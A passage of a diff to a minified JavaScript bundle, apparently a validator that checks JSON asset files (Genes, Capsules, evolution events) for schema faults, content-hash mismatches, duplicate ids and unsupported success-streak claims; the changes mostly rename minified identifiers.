-value:""},zD=14,UD=15,JD={1:"an unterminated comment",2:"an unterminated string",3:"an incomplete number",4:"a \\u escape\
- without four hexadecimal digits",5:"an unknown escape in a string",6:"an unescaped control character in a string"};function ZD(t){
-const e=createScanner(t,!1);return()=>{let n=e.scan();for(;n===zD||n===UD;)n=e.scan();const s=GD[n]??"unknown",r=e.getTokenValue(),
-i=JD[e.getTokenError()]??KD(s,r);return{kind:s,start:e.getTokenOffset(),end:Math.min(e.getPosition(),t.length),value:r,...i!==
-void 0&&{fault:i}}}}function KD(t,e){if(t==="comment")return"a comment";if(t==="number"&&!Number.isFinite(Number(e)))return"\
-a number out of range";if(t==="string"&&/\p{Surrogate}/u.test(e))return"half of a surrogate pair"}const WD=/^(?:<{7}|={7}|>{7})$/;
-function FB({kind:t,value:e}){return t==="end"?"the end of the file":t==="string"||t==="number"||t==="comment"?`a ${t}`:
-t!=="unknown"?`"${t}"`:WD.test(e)?"a conflict marker of git":JSON.stringify(e.length>40?`${e.slice(0,40)}\u2026`:e)}const az=vt(
-import.meta.url)("node:buffer");class cz{path;text;#e;#t;constructor(e,n,s=1){this.path=e,this.text=n,this.#e=s}location(e,n=e){
+$B=new Set(["string","number","true","false","null"]),MD=new Set([...$B,"{","[","unknown"]),NB={kind:"end",start:0,end:0,
+value:""},GD=14,HD=15,zD={1:"an unterminated comment",2:"an unterminated string",3:"an incomplete number",4:"a \\u escape\
+ without four hexadecimal digits",5:"an unknown escape in a string",6:"an unescaped control character in a string"};function UD(t){
+const e=createScanner(t,!1);return()=>{let n=e.scan();for(;n===GD||n===HD;)n=e.scan();const s=jD[n]??"unknown",r=e.getTokenValue(),
+i=zD[e.getTokenError()]??JD(s,r);return{kind:s,start:e.getTokenOffset(),end:Math.min(e.getPosition(),t.length),value:r,...i!==
+void 0&&{fault:i}}}}function JD(t,e){if(t==="comment")return"a comment";if(t==="number"&&!Number.isFinite(Number(e)))return"\
+a number out of range";if(t==="string"&&/\p{Surrogate}/u.test(e))return"half of a surrogate pair"}const ZD=/^(?:<{7}|={7}|>{7})$/;
+function RB({kind:t,value:e}){return t==="end"?"the end of the file":t==="string"||t==="number"||t==="comment"?`a ${t}`:
+t!=="unknown"?`"${t}"`:ZD.test(e)?"a conflict marker of git":JSON.stringify(e.length>40?`${e.slice(0,40)}\u2026`:e)}const X2=vt(
+import.meta.url)("node:buffer");class Q2{path;text;#e;#t;constructor(e,n,s=1){this.path=e,this.text=n,this.#e=s}location(e,n=e){
 const s=this.#s(e),r=this.#s(Math.max(e,n));return{path:this.path,...s,end_line:r.line,end_column:r.column}}#s(e){const n=this.#t??
 this.#i();let s=0;for(let r=n.length;r-s>1;){const i=s+r>>>1;(n[i]??0)<=e?s=i:r=i}return{line:s+this.#e,column:e-(n[s]??
 0)+1}}#i(){const e=[0];for(let n=this.text.indexOf(`
 `);n!==-1;n=this.text.indexOf(`
-`,n+1))e.push(n+1);return this.#t=e,e}}const na=100;class uz{found=[];#e;constructor(e){this.#e=e}get full(){return this.
+`,n+1))e.push(n+1);return this.#t=e,e}}const na=100;class ez{found=[];#e;constructor(e){this.#e=e}get full(){return this.
 found.length>na}place(e){const{line:n,column:s}=this.#e.location(e);return`line ${n}, column ${s}`}add(e,{start:n,end:s},r,i){
 if(this.full)return;const o=this.#e.location(n,s);this.found.push(this.found.length<na?{rule:e,location:o,detail:r,...i!==
-void 0&&{id:i}}:{rule:"file-too-large",location:o,detail:`more than ${na} problems; the rest is not listed`})}}function lz(t){
+void 0&&{id:i}}:{rule:"file-too-large",location:o,detail:`more than ${na} problems; the rest is not listed`})}}function tz(t){
 const e=new TextDecoder("utf-8").decode(t);return isUtf8(t)?{text:e,complete:!0}:{text:e.slice(0,e.indexOf("\uFFFD")),complete:!1}}
-function dz(t,e,n,s=1){if(e.length>n.maxBytes)return YD(t,e.length,n);const{text:r,complete:i}=decodeUtf8(e),o=new Source(
+function nz(t,e,n,s=1){if(e.length>n.maxBytes)return qD(t,e.length,n);const{text:r,complete:i}=decodeUtf8(e),o=new Source(
 t,r,s),a=new Problems(o);if(!i){const f={start:r.length,end:r.length};return a.add("file-not-utf8",f,"a byte that no UTF\
 -8 text can have here"),{path:t,assets:[],problems:a.found}}const c=readJson(r,n,a);c.length===0&&a.found.length===0&&!sa(
-t)&&a.add("file-not-json",{start:0,end:0},"expected a JSON value, found an empty file");const{candidates:l,messages:u}=LB(
-o,c,n,a),d=PB(l,o,a),B=u.map(f=>({value:f.value,location:MB(o,f,[])}));return{path:t,assets:d,problems:a.found,...sa(t)&&
-e[0]!==qD&&VD(c,o)&&{lines:!0},...B.length>0&&{messages:B}}}function Bz(t,e,n){const s=new Source(t,e),r=new Problems(s),
-{candidates:i}=LB(s,readJson(e,n,r),n,r),o=PB(i,s,r);return i.flatMap(({node:a},c)=>{const l=o[c];return l?{asset:l,node:a}:
-[]})}function LB({path:t},e,{maxAssets:n},s){const{candidates:r,messages:i}=findCandidates(e,s),o=r[n];o&&s.add("file-to\
+t)&&a.add("file-not-json",{start:0,end:0},"expected a JSON value, found an empty file");const{candidates:l,messages:u}=FB(
+o,c,n,a),d=LB(l,o,a),B=u.map(f=>({value:f.value,location:jB(o,f,[])}));return{path:t,assets:d,problems:a.found,...sa(t)&&
+e[0]!==KD&&WD(c,o)&&{lines:!0},...B.length>0&&{messages:B}}}function sz(t,e,n){const s=new Source(t,e),r=new Problems(s),
+{candidates:i}=FB(s,readJson(e,n,r),n,r),o=LB(i,s,r);return i.flatMap(({node:a},c)=>{const l=o[c];return l?{asset:l,node:a}:
+[]})}function FB({path:t},e,{maxAssets:n},s){const{candidates:r,messages:i}=findCandidates(e,s),o=r[n];o&&s.add("file-to\
 o-large",o.node,`more than ${n} assets; the rest is not read`);const a=sa(t)||e.length>1;return{candidates:r.slice(0,n).
-map(l=>a?l:{...l,pointer:l.pointer.slice(1)}),messages:i}}const qD=239;function VD(t,e){let n=0;return t.every(({start:s,
-end:r})=>{const{line:i,end_line:o}=e.location(s,r),a=i===o&&i>n;return n=i,a})}function YD(t,e,{maxBytes:n}){const s=`${e}\
+map(l=>a?l:{...l,pointer:l.pointer.slice(1)}),messages:i}}const KD=239;function WD(t,e){let n=0;return t.every(({start:s,
+end:r})=>{const{line:i,end_line:o}=e.location(s,r),a=i===o&&i>n;return n=i,a})}function qD(t,e,{maxBytes:n}){const s=`${e}\
  bytes, of at most ${n}`;return{path:t,assets:[],problems:[{rule:"file-too-large",location:{path:t,line:1,column:1},detail:s}]}}
-function fz(t,e){const n={path:t,line:1,column:1},s=whyNotJudged(`the file \`${t}\``,e);return{path:t,assets:[],problems:[
-{rule:"not-judged",location:n,detail:s}]}}function sa(t){return t.toLowerCase().endsWith(".jsonl")}function PB(t,e,n){const s=new Map,
-r=new Map,i=t.map((o,a)=>{const{node:c,pointer:l,value:u,type:d,envelope:B,wrappers:f}=o,h=jB(u),m=h??`#${a+1}`,g=s.get(
-`${d} ${m}`),C=h!==void 0&&g!==void 0&&XD(o,g);if(h===void 0){const y=Object.hasOwn(u,"id")?'with an "id" that is not te\
+function rz(t,e){const n={path:t,line:1,column:1},s=whyNotJudged(`the file \`${t}\``,e);return{path:t,assets:[],problems:[
+{rule:"not-judged",location:n,detail:s}]}}function sa(t){return t.toLowerCase().endsWith(".jsonl")}function LB(t,e,n){const s=new Map,
+r=new Map,i=t.map((o,a)=>{const{node:c,pointer:l,value:u,type:d,envelope:B,wrappers:f}=o,h=PB(u),m=h??`#${a+1}`,g=s.get(
+`${d} ${m}`),C=h!==void 0&&g!==void 0&&VD(o,g);if(h===void 0){const y=Object.hasOwn(u,"id")?'with an "id" that is not te\
 xt':'without an "id"',b=`${withArticle(d)} ${y}; it is called ${m} here`;c.cut||n.add("not-an-asset",c,b,m)}else if(C)r.
 set(g,(r.get(g)??1)+1);else if(g){const y=`${d} ${JSON.stringify(m)}, first at ${n.place(g.node.start)}`;n.add("duplicat\
 e-id",c,y,m)}else s.set(`${d} ${m}`,o);return{type:d,id:m,path:e.path,value:u,pointer:l,...c.cut&&{cut:!0},...B&&{envelope:B},
-...f&&{wrappers:f},...C&&{copy:!0},locate:(y=[],b)=>MB(e,c,y,b)}});for(const[{node:o,type:a,value:c},l]of r){const u=jB(
-c);n.add("duplicate-copy",o,`${a} ${JSON.stringify(u)}, ${l} times`,u)}return i}function XD(t,e){const n=s=>!s.node.cut&&
-!s.envelope;return n(t)&&n(e)&&statedContent(t)===statedContent(e)}function jB({id:t}){return typeof t=="string"&&t.trim()!==
-""?t:void 0}function MB(t,e,n,s){let r=e;for(const i of n){const o=QD(r,i);if(!o)return t.location(r.start,r.end);r=o}return!s||
-typeof r.value!="string"?t.location(r.start,r.end):t.location(GB(t.text,r,s.start),GB(t.text,r,s.end))}function QD({value:t,
-children:e},n){return Array.isArray(t)?typeof n=="number"?e?.[n]:void 0:e?.findLast(({key:s})=>s?.name===n)}function GB(t,{
+...f&&{wrappers:f},...C&&{copy:!0},locate:(y=[],b)=>jB(e,c,y,b)}});for(const[{node:o,type:a,value:c},l]of r){const u=PB(
+c);n.add("duplicate-copy",o,`${a} ${JSON.stringify(u)}, ${l} times`,u)}return i}function VD(t,e){const n=s=>!s.node.cut&&
+!s.envelope;return n(t)&&n(e)&&statedContent(t)===statedContent(e)}function PB({id:t}){return typeof t=="string"&&t.trim()!==
+""?t:void 0}function jB(t,e,n,s){let r=e;for(const i of n){const o=YD(r,i);if(!o)return t.location(r.start,r.end);r=o}return!s||
+typeof r.value!="string"?t.location(r.start,r.end):t.location(MB(t.text,r,s.start),MB(t.text,r,s.end))}function YD({value:t,
+children:e},n){return Array.isArray(t)?typeof n=="number"?e?.[n]:void 0:e?.findLast(({key:s})=>s?.name===n)}function MB(t,{
 start:e,end:n},s){const r=n-1;let i=e+1;for(let o=0;o<s&&i<r;o+=1)t[i]!=="\\"?i+=1:i+=t[i+1]==="u"?6:2;return Math.min(i,
-r)}const hz={"1124af25050b3a2777b00fe527f25c37":"1.7.0","0ae9f4172d143cac2f316f08d0855038":"1.14.0","6298d2870e2f48a9ca4\
+r)}const iz={"1124af25050b3a2777b00fe527f25c37":"1.7.0","0ae9f4172d143cac2f316f08d0855038":"1.14.0","6298d2870e2f48a9ca4\
 47e3c80d09df5":"1.7.0",aec44b6e270d0df1467ca8b6421dfa56:"1.14.0",a439632ca376509abf5cd66745ebb667:"1.94.0",f2e2fdbe0cfdd670c6ae2ab38a9cf719:"\
 1.94.0","392fbba719f19ac8018e35eef2a9ef1c":"1.94.0","80fc8fcd87486a59d51a3053f3d9528f":"1.94.0",e3fdd8cdf5e2baa7fb529e8b229a5fb4:"\
 1.94.0","7962c90afd3575bfc8979294eb591e0d":"1.94.0","9ac277a07aa552692e227a5f24302b5e":"1.89.20","7967117c6f51afdb33c457\
@@ -3388,171 +3388,171 @@ d05809035d":"1.69.13","88deb4b8eefea45bd47b036c5ee81444":"1.89.20","581eb030144d
 4377eec":"1.20.4",a94a80796426b370f3fddd846f0d8f0c:"1.20.4","331cc84e1b4900eda2bcaa60dff0ddac":"1.66.0",f7e20f8360f34930334cda0bced64bb2:"\
 1.66.0","1f3af73d38e6323fff6adb530dabe346":"1.89.20",bafad883b2a2cc8a11d902d1d920f501:"1.89.20","67abc3346b96ee2143867db\
 19b637205":"1.89.20",c7208554a1f367a1dbc09317442aa219:"1.89.20","111330940cef16ea3cfd134161b59244":"1.89.20",ec199ceb43ac39756c4fb0987a81ac06:"\
-1.66.0","5fec6e038ba05b4992ed65b4235dd52c":"1.89.20"};function pz({value:t,envelope:e}){if(e===void 0)return SEED_HASHES[hash(
-"sha256",canonicalize(t)).slice(0,32)]}const e0=/\.seed\.json$/;function mz({head:t,base:e,untouched:n},s){const r=(c,l)=>c.
-filter(({path:u})=>e0.test(u)===l).flatMap(({assets:u})=>u).filter(({type:u,value:d})=>u==="Gene"&&declaredId(d)!==void 0),
+1.66.0","5fec6e038ba05b4992ed65b4235dd52c":"1.89.20"};function oz({value:t,envelope:e}){if(e===void 0)return SEED_HASHES[hash(
+"sha256",canonicalize(t)).slice(0,32)]}const XD=/\.seed\.json$/;function az({head:t,base:e,untouched:n},s){const r=(c,l)=>c.
+filter(({path:u})=>XD.test(u)===l).flatMap(({assets:u})=>u).filter(({type:u,value:d})=>u==="Gene"&&declaredId(d)!==void 0),
 i=new Set(r(e,!0).map(({id:c})=>c));if(i.size===0)return[];const o=new Set(r([...e,...n],!1).map(({id:c})=>c)),a=new Set(
-s.map(({asset:c})=>c));return r(t,!1).filter(c=>i.has(c.id)&&!o.has(c.id)&&!a.has(c))}function gz({value:t}){const e=typeof t.
-asset_id=="string"?n0(t.asset_id):void 0,n=i=>computeAssetId(i)===`sha256:${e}`;return n(t)?"unprefixed":t.type==="Gene"&&
-t.epigenetic_marks!==void 0&&n({...zB(t),epigenetic_marks:[]})?"created":void 0}const HB={env_fingerprint:["region"],Capsule:[
-"diff","strategy"]};function t0(t){const n=HB.Capsule.filter(r=>t.type==="Capsule"&&!(r in t)).reduce((r,i)=>r.flatMap(o=>[
-o,{...o,[i]:null}]),[{}]);return[t,ra(t)].flatMap(r=>n.map(i=>({...r,...i}))).find(r=>hr(r)===t.asset_id)}function ra(t){
-if(Array.isArray(t))return t.map(ra);if(!cn(t))return t;const e=Object.entries(t).map(([n,s])=>{const r=ra(s),[i]=HB.env_fingerprint,
-o=n==="env_fingerprint"&&cn(r)&&!(i in r);return[n,o?{...r,[i]:null}:r]});return Object.fromEntries(e)}function Cz({value:t},e){
-if(t.type!=="Gene"||e===void 0)return!1;const[n,s]=[t,e.value].map(r=>{const{schema_version:i,asset_id:o,...a}=zB(r);return canonicalize(
-a)});return n===s}function zB(t){const{epigenetic_marks:e,learning_history:n,anti_patterns:s,...r}=t;return r}function n0(t){
-const e=t.trim().toLowerCase().replace(/^sha-?256[:-]/,"");return/^[0-9a-f]{64}$/.test(e)?e:void 0}const s0=new Set(["Ge\
+s.map(({asset:c})=>c));return r(t,!1).filter(c=>i.has(c.id)&&!o.has(c.id)&&!a.has(c))}function cz({value:t}){const e=typeof t.
+asset_id=="string"?e0(t.asset_id):void 0,n=i=>computeAssetId(i)===`sha256:${e}`;return n(t)?"unprefixed":t.type==="Gene"&&
+t.epigenetic_marks!==void 0&&n({...HB(t),epigenetic_marks:[]})?"created":void 0}const GB={env_fingerprint:["region"],Capsule:[
+"diff","strategy"]};function QD(t){const n=GB.Capsule.filter(r=>t.type==="Capsule"&&!(r in t)).reduce((r,i)=>r.flatMap(o=>[
+o,{...o,[i]:null}]),[{}]);return[t,ra(t)].flatMap(r=>n.map(i=>({...r,...i}))).find(r=>Br(r)===t.asset_id)}function ra(t){
+if(Array.isArray(t))return t.map(ra);if(!cn(t))return t;const e=Object.entries(t).map(([n,s])=>{const r=ra(s),[i]=GB.env_fingerprint,
+o=n==="env_fingerprint"&&cn(r)&&!(i in r);return[n,o?{...r,[i]:null}:r]});return Object.fromEntries(e)}function uz({value:t},e){
+if(t.type!=="Gene"||e===void 0)return!1;const[n,s]=[t,e.value].map(r=>{const{schema_version:i,asset_id:o,...a}=HB(r);return canonicalize(
+a)});return n===s}function HB(t){const{epigenetic_marks:e,learning_history:n,anti_patterns:s,...r}=t;return r}function e0(t){
+const e=t.trim().toLowerCase().replace(/^sha-?256[:-]/,"");return/^[0-9a-f]{64}$/.test(e)?e:void 0}const t0=new Set(["Ge\
 ne","Capsule","EvolutionEvent"]);function jn(t){const{type:e,value:n}=t,s=n.asset_id;return s===ds(t.value)?"content":e===
-"Capsule"&&s===ds(o0(n))?"hub":typeof s=="string"&&t0(n)?"engine":void 0}function yz(t,e){const{type:n,value:s}=t;if(!s0.
-has(n))return UB(t,e);const r=JB(t,e),i=placeOf(t),o=s.asset_id===void 0?ds(t.value):void 0;return[...s.schema_version===
-void 0?[finding("schema-version-missing",r,i)]:[],...o===void 0?UB(t,e):[finding("content-hash-missing",{...r,expected:o},
-i)]]}function wz({rule:t}){return t==="schema-version-missing"||t==="content-hash-missing"}function UB(t,e,n=!1,s){const{
+"Capsule"&&s===ds(r0(n))?"hub":typeof s=="string"&&QD(n)?"engine":void 0}function lz(t,e){const{type:n,value:s}=t;if(!t0.
+has(n))return zB(t,e);const r=UB(t,e),i=placeOf(t),o=s.asset_id===void 0?ds(t.value):void 0;return[...s.schema_version===
+void 0?[finding("schema-version-missing",r,i)]:[],...o===void 0?zB(t,e):[finding("content-hash-missing",{...r,expected:o},
+i)]]}function dz({rule:t}){return t==="schema-version-missing"||t==="content-hash-missing"}function zB(t,e,n=!1,s){const{
 value:r}=t;if(r.asset_id===void 0||jn(t)!==void 0)return[];const i=ds(t.value),o=otherHashForm(t),a=seedRelease(t),l=o===
 "created"||a!==void 0?"notice":hasOnlyLearned(t,s)?"warning":"error",u=e==="author"?"error":l,d={...placeOf(t,["asset_id"]),
-severity:u},B={...JB(t,e),expected:i,...o&&{form:o},...a&&{seed:a}},f=n&&u!=="notice"&&e==="fix"?r0(t,i):void 0;return[{
-...finding("content-hash-mismatch",B,d),...f&&{edit:f}}]}function JB({type:t,id:e},n){return{type:t,id:e,fixable:n==="fi\
-x",...n==="author"&&{foreign:!0}}}function bz(t){const{asset_id:e}=t.value;return typeof e=="string"&&jn(t)!==void 0?e:ds(
-t.value)}function r0({type:t,path:e,pointer:n,value:s},r){const{asset_id:i,...o}=s;if(!(typeof i!="string"||Object.values(
-o).some(ZB))&&jn({type:t,value:{...o,asset_id:r}})!==void 0)return{path:e,pointer:pointerText([...n,"asset_id"]),old:i,new:[
-r],fix:!0}}function ZB(t){return typeof t!="object"||t===null?!1:Object.hasOwn(t,"asset_id")||Object.values(t).some(ZB)}
-function ds(t){return hr(t)??""}const i0=null;function o0(t){const{outcome:e}=t;if(!cn(e))return t;const{notes:n,details:s,
-...r}=e;return{...t,outcome:r}}function _z(t){const{outcome:e}=t.value;return jn(t)!=="hub"||!isJsonObject(e)?[]:i0.filter(
-n=>Object.hasOwn(e,n)).map(n=>`outcome.${n}`)}var KB=Te(916);const a0=80,c0=4;function Ur(t,e){const n=t.slice(0,a0),s=e.
-find(i=>i.includes(t));if(s!==void 0&&t.length>=c0)return s;const r=e.length>0?(0,KB.kp)(n,[...e]):void 0;if(r!==void 0)
-return(0,KB.Io)(n,r)<=n.length/2?r:void 0}function Ez(t){return schemaDifferences(t.type,t.value).flatMap(e=>l0(t.type,e)).
-map(e=>WB(t,e,"warning"))}function u0(t){const e=f0(t)?"warning":"error";return DB(t.type,t.value).map(n=>WB(t,n,e))}function WB(t,e,n){
+severity:u},B={...UB(t,e),expected:i,...o&&{form:o},...a&&{seed:a}},f=n&&u!=="notice"&&e==="fix"?n0(t,i):void 0;return[{
+...finding("content-hash-mismatch",B,d),...f&&{edit:f}}]}function UB({type:t,id:e},n){return{type:t,id:e,fixable:n==="fi\
+x",...n==="author"&&{foreign:!0}}}function Bz(t){const{asset_id:e}=t.value;return typeof e=="string"&&jn(t)!==void 0?e:ds(
+t.value)}function n0({type:t,path:e,pointer:n,value:s},r){const{asset_id:i,...o}=s;if(!(typeof i!="string"||Object.values(
+o).some(JB))&&jn({type:t,value:{...o,asset_id:r}})!==void 0)return{path:e,pointer:pointerText([...n,"asset_id"]),old:i,new:[
+r],fix:!0}}function JB(t){return typeof t!="object"||t===null?!1:Object.hasOwn(t,"asset_id")||Object.values(t).some(JB)}
+function ds(t){return Br(t)??""}const s0=null;function r0(t){const{outcome:e}=t;if(!cn(e))return t;const{notes:n,details:s,
+...r}=e;return{...t,outcome:r}}function fz(t){const{outcome:e}=t.value;return jn(t)!=="hub"||!isJsonObject(e)?[]:s0.filter(
+n=>Object.hasOwn(e,n)).map(n=>`outcome.${n}`)}var ZB=Te(916);const i0=80,o0=4;function Hr(t,e){const n=t.slice(0,i0),s=e.
+find(i=>i.includes(t));if(s!==void 0&&t.length>=o0)return s;const r=e.length>0?(0,ZB.kp)(n,[...e]):void 0;if(r!==void 0)
+return(0,ZB.Io)(n,r)<=n.length/2?r:void 0}function hz(t){return schemaDifferences(t.type,t.value).flatMap(e=>c0(t.type,e)).
+map(e=>KB(t,e,"warning"))}function a0(t){const e=d0(t)?"warning":"error";return vB(t.type,t.value).map(n=>KB(t,n,e))}function KB(t,e,n){
 const{type:s,id:r}=t,{pointer:i,more:o}=e,a={...Qo(t,i),severity:n},c=(l,u,d,B)=>(0,Oe.gk)("schema-field",{type:s,id:r,field:l,
 fault:u,where:d,fix:B},a);switch(e.kind){case"missing":{const{fields:l}=e,d=`Add what is missing as the schema of the pr\
 otocol describes it${l.includes("asset_id")?"; `gene-gate fix --identity --write` adds `asset_id`":""}`;return c(l.join(
-"`, `"),"is missing",VB(i,o),d)}case"unknown":{const l=VB(i.slice(0,-1),o),{field:u,absent:d}=e,B=Ur(u,d),f=B===void 0?"":
+"`, `"),"is missing",qB(i,o),d)}case"unknown":{const l=qB(i.slice(0,-1),o),{field:u,absent:d}=e,B=Hr(u,d),f=B===void 0?"":
 `If you meant \`${B}\`, rename it. Otherwise, `,h=`${f}${f?"remove":"Remove"} \`${u}\` or store it outside the asset`;return c(
-u,"is unknown",l,h)}case"invalid":{const{expected:l}=e,u=`${e.found}${o===0?"":` (and in ${qB(o)})`}`,d=i.join("."),B=`m\
-ust be ${l}, but it is ${u}`;return c(d,B,"",`Change \`${d}\` to ${l}`)}}}function qB(t){return t===1?"1 similar place":
-`${t} similar places`}function VB(t,e){return t.length===0?"":` in \`${t.join(".")}\`${e===0?"":` and ${qB(e)}`}`}function l0(t,e){
-const{pointer:n}=e;switch(e.kind){case"missing":{const s=e.fields.filter(r=>!d0[t].has([...n,r].join(".")));return s.length===
-0?[]:[{...e,fields:s}]}case"unknown":return[e];case"invalid":return B0(t,n,e.keyword)?[]:[e]}}const d0={Gene:new Set(["t\
+u,"is unknown",l,h)}case"invalid":{const{expected:l}=e,u=`${e.found}${o===0?"":` (and in ${WB(o)})`}`,d=i.join("."),B=`m\
+ust be ${l}, but it is ${u}`;return c(d,B,"",`Change \`${d}\` to ${l}`)}}}function WB(t){return t===1?"1 similar place":
+`${t} similar places`}function qB(t,e){return t.length===0?"":` in \`${t.join(".")}\`${e===0?"":` and ${WB(e)}`}`}function c0(t,e){
+const{pointer:n}=e;switch(e.kind){case"missing":{const s=e.fields.filter(r=>!u0[t].has([...n,r].join(".")));return s.length===
+0?[]:[{...e,fields:s}]}case"unknown":return[e];case"invalid":return l0(t,n,e.keyword)?[]:[e]}}const u0={Gene:new Set(["t\
 ype","id","schema_version","asset_id","validation","constraints","constraints.max_files","constraints.forbidden_paths"]),
 Capsule:new Set(["type","id","schema_version","asset_id"]),EvolutionEvent:new Set(["type","id","schema_version","asset_i\
-d"]),Mutation:new Set(["type","id"]),ValidationReport:new Set(["type","id"])};function B0(t,[e,...n],s){if(e==="type"||e===
+d"]),Mutation:new Set(["type","id"]),ValidationReport:new Set(["type","id"])};function l0(t,[e,...n],s){if(e==="type"||e===
 "id"||e==="asset_id")return!0;if(t!=="Gene")return!1;const r=s==="minItems"&&n.length>0;return e==="validation"||e==="co\
-nstraints"&&!r}function f0({value:t}){const{schema_version:e}=t,n=typeof e=="string"?/^1\.(\d+)\.\d+$/.exec(e)?.[1]:void 0;
-return n!==void 0&&Number(n)<Number(Au.split(".")[1])}function Jr(t,e){const n=new Map;for(const s of t){const r=e(s),i=n.
-get(r);i?i.push(s):n.set(r,[s])}return n}function h0(t,e){const n=w0(t,e),s=Jr(t,({value:{capsule_id:r}})=>r);return r=>p0(
-r,s.get(r.id)??[],n,e)}function p0({id:t,value:{gene:e}},n,s,r){const i=[],o=[],a={files:0,lines:0};let c;const{successes:l,
-failure:u}=YB(t,n);for(const d of l){const{value:B}=d,f=s.get(d)??_0(B,r)??(E0(B,e,r)?void 0:y0);f===void 0?(o.push(d),k0(
-a,B)||(c??=ia(B))):i.push({event:ia(B),why:f})}return{count:XB(o),uncounted:i,ended:u!==void 0,...u&&l.length===0&&{failed:ia(
-u.value)},radius:a,...c!==void 0&&{unmeasured:c}}}function YB(t,e){const n=e.filter(({value:r})=>r.type==="EvolutionEven\
-t"&&r.capsule_id===t).reverse(),s=n.findIndex(({value:r})=>!m0(r));return s<0?{successes:n}:{successes:n.slice(0,s),failure:n[s]}}
-function m0({outcome:t}){return cn(t)&&t.status==="success"}function XB(t){const e=t.map(({value:n})=>n.id).filter(n=>typeof n==
-"string");return t.length-e.length+new Set(e).size}function g0(t,e){const{successes:n,failure:s}=YB(t,e);return{count:XB(
-n),ended:s!==void 0}}function C0({changes:t,present:e,unread:n}){const s=n.at(-1),r=new Set(t.map(({asset:i})=>i));return e.
-filter(({type:i,path:o})=>i==="EvolutionEvent"&&(!s||o>=s.path)).map(i=>({value:i.value,log:i.path,isNew:r.has(i)}))}const y0="\
-it does not name the gene of the Capsule";function w0(t,e){const n=new Map,s=new Map,r=new Set;for(const i of t){const o=b0(
+nstraints"&&!r}function d0({value:t}){const{schema_version:e}=t,n=typeof e=="string"?/^1\.(\d+)\.\d+$/.exec(e)?.[1]:void 0;
+return n!==void 0&&Number(n)<Number(Ou.split(".")[1])}function zr(t,e){const n=new Map;for(const s of t){const r=e(s),i=n.
+get(r);i?i.push(s):n.set(r,[s])}return n}function B0(t,e){const n=C0(t,e),s=zr(t,({value:{capsule_id:r}})=>r);return r=>f0(
+r,s.get(r.id)??[],n,e)}function f0({id:t,value:{gene:e}},n,s,r){const i=[],o=[],a={files:0,lines:0};let c;const{successes:l,
+failure:u}=VB(t,n);for(const d of l){const{value:B}=d,f=s.get(d)??w0(B,r)??(b0(B,e,r)?void 0:g0);f===void 0?(o.push(d),_0(
+a,B)||(c??=ia(B))):i.push({event:ia(B),why:f})}return{count:YB(o),uncounted:i,ended:u!==void 0,...u&&l.length===0&&{failed:ia(
+u.value)},radius:a,...c!==void 0&&{unmeasured:c}}}function VB(t,e){const n=e.filter(({value:r})=>r.type==="EvolutionEven\
+t"&&r.capsule_id===t).reverse(),s=n.findIndex(({value:r})=>!h0(r));return s<0?{successes:n}:{successes:n.slice(0,s),failure:n[s]}}
+function h0({outcome:t}){return cn(t)&&t.status==="success"}function YB(t){const e=t.map(({value:n})=>n.id).filter(n=>typeof n==
+"string");return t.length-e.length+new Set(e).size}function p0(t,e){const{successes:n,failure:s}=VB(t,e);return{count:YB(
+n),ended:s!==void 0}}function m0({changes:t,present:e,unread:n}){const s=n.at(-1),r=new Set(t.map(({asset:i})=>i));return e.
+filter(({type:i,path:o})=>i==="EvolutionEvent"&&(!s||o>=s.path)).map(i=>({value:i.value,log:i.path,isNew:r.has(i)}))}const g0="\
+it does not name the gene of the Capsule";function C0(t,e){const n=new Map,s=new Map,r=new Set;for(const i of t){const o=y0(
 i,s,e&&r.has(i.log));o!==void 0&&n.set(i,o),r.add(i.log);const{id:a}=i.value;typeof a=="string"&&!s.has(a)&&s.set(a,i)}return n}
-function b0({value:t,isNew:e},n,s){const{id:r,parent:i}=t;if(e)return"the change that is judged adds or edits it";const o=typeof r==
+function y0({value:t,isNew:e},n,s){const{id:r,parent:i}=t;if(e)return"the change that is judged adds or edits it";const o=typeof r==
 "string"?n.get(r):void 0;return o!==void 0?rs(o.value)===rs(t)?void 0:"an earlier event with other content has its id":typeof i==
-"string"&&i!==""?n.has(i)?void 0:"its parent is not in the log before it":s?"it has no parent":void 0}function _0(t,e){const{
+"string"&&i!==""?n.has(i)?void 0:"its parent is not in the log before it":s?"it has no parent":void 0}function w0(t,e){const{
 id:n,asset_id:s}=t;if(s===void 0)return e?"it has no hash":void 0;if(jn({type:"EvolutionEvent",value:t})===void 0)return"\
-its hash does not match its content";const r=typeof n=="string"&&n.trim()!=="";return e&&!r?"it has no id":void 0}function E0({
-genes_used:t},e,n){return typeof e!="string"||e===""||!Array.isArray(t)?!n:t.includes(e)}function k0(t,{blast_radius:e}){
-if(e===void 0)return!0;if(!cn(e))return!1;const{files:n,lines:s}=e;return!QB(n)||!QB(s)?!1:(t.files=Math.max(t.files,n),
-t.lines=Math.max(t.lines,s),!0)}function QB(t){return typeof t=="number"&&Number.isSafeInteger(t)&&t>=0}function ia({id:t}){
-return typeof t=="string"?t:"without an id"}function kz({assets:t}){const e=groupBy(C0(t),({value:n})=>n.capsule_id);return t.
+its hash does not match its content";const r=typeof n=="string"&&n.trim()!=="";return e&&!r?"it has no id":void 0}function b0({
+genes_used:t},e,n){return typeof e!="string"||e===""||!Array.isArray(t)?!n:t.includes(e)}function _0(t,{blast_radius:e}){
+if(e===void 0)return!0;if(!cn(e))return!1;const{files:n,lines:s}=e;return!XB(n)||!XB(s)?!1:(t.files=Math.max(t.files,n),
+t.lines=Math.max(t.lines,s),!0)}function XB(t){return typeof t=="number"&&Number.isSafeInteger(t)&&t>=0}function ia({id:t}){
+return typeof t=="string"?t:"without an id"}function pz({assets:t}){const e=groupBy(m0(t),({value:n})=>n.capsule_id);return t.
 changes.flatMap(({kind:n,asset:s})=>{const{success_streak:r}=s.value;if(n==="removed"||s.type!=="Capsule"||typeof r!="nu\
-mber")return[];const{count:i,ended:o}=g0(s.id,e.get(s.id)??[]);if(r<=i)return[];const a=placeOf(s,["success_streak"]),c=t.
+mber")return[];const{count:i,ended:o}=p0(s.id,e.get(s.id)??[]);if(r<=i)return[];const a=placeOf(s,["success_streak"]),c=t.
 unread.at(-1);if(c!==void 0&&!o)return[notChecked(`the success streak of the Capsule \`${s.id}\``,c,a)];const l={type:s.
 type,id:s.id,claim:`claims a success streak of ${r}`,shown:`the events show ${i}`,fix:"Append the events of its cycles, \
-or correct `success_streak`"};return[finding("claim-differs",l,a)]})}const vz={level:"none",description:"Nothing was run\
